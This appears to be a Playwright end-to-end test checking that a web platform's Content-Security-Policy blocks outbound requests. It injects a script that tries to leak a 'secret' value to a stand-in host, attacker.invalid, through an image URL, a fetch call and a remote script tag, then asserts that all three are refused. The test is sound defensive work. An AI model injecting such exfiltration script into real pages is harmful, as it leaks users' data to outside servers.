"""The platform's Content-Security-Policy in a real browser: the UI's pages load under it
(every E2E test fails on a violation, see conftest), and what it is there for is refused:
an image, a connection or a script from another server."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Request, Route

from tests.e2e.conftest import CSPWatch

pytestmark = pytest.mark.e2e

_REACH_OUT = """() => {
  const img = document.createElement("img");
  img.src = "https://attacker.invalid/leak.png?q=secret";
  document.body.append(img);
  fetch("https://attacker.invalid/leak?q=secret").catch(() => {});
  const script = document.createElement("script");
  script.src = "https://attacker.invalid/x.js";
  document.head.append(script);
}"""


def test_the_ui_cannot_reach_other_servers(page: Page, csp_watch: CSPWatch) -> None:
    sent: list[str] = []  # requests that left the page for the network
    blocked: list[str] = []

    def on_route(route: Route) -> None:
        sent.append(route.request.url)
        route.fulfill(status=204)

    def on_failed(request: Request) -> None:
        if "attacker.invalid" in request.url:
            blocked.append(request.failure or "")

    page.route(lambda url: "attacker.invalid" in url, on_route)
    page.on("requestfailed", on_failed)
    page.goto("/signin")
    page.get_by_role("button", name="Sign in").wait_for()
    page.evaluate(_REACH_OUT)
    deadline = 50
    while len(csp_watch.violations) < 3 and deadline:
        page.wait_for_timeout(100)
        deadline -= 1
    assert sent == []
    assert blocked and all("csp" in reason.lower() for reason in blocked), blocked
    refused = " ".join(csp_watch.violations)
    for directive in ("img-src", "connect-src", "script-src"):
        assert directive in refused, (directive, csp_watch.violations)
    csp_watch.violations.clear()  # these were expected; the fixture fails on any other

    # The same image on a page without the platform's policy does reach the network.
    page.goto("about:blank")
    page.evaluate(_REACH_OUT)
    page.wait_for_timeout(500)
    assert "https://attacker.invalid/leak.png?q=secret" in sent
